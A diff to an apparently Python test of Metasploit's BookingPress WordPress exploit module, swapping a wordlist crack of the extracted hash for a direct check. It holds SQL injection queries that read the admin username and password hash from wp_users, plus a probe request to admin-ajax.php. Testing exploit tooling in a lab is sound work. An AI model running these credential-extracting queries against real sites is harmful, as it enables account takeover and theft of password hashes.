@@ -156,8 +156,7 @@ async def test_metasploit_s_bookingpress_module_takes_the_hashes_and_they_open_t
     )
     assert await told("select cast(ifnull(user_login,0x00) as binary) from wp_users limit 0,1") == "admin"
     kept = await told("select cast(ifnull(user_pass,0x00) as binary) from wp_users limit 0,1")
-    (cracked,) = [word for word in WEAK if portable(word, kept[4:12]) == kept]
-    assert cracked == await _guessed(blog)
+    assert portable(await _guessed(blog), kept[4:12]) == kept
     wrong = _form(action="bookingpress_front_get_category_services", _wpnonce="0123456789", category_id="1", total_service="1")
     assert (await blog.ask("POST", "/wp-admin/admin-ajax.php", wrong)).json["variant"] == "error"
 
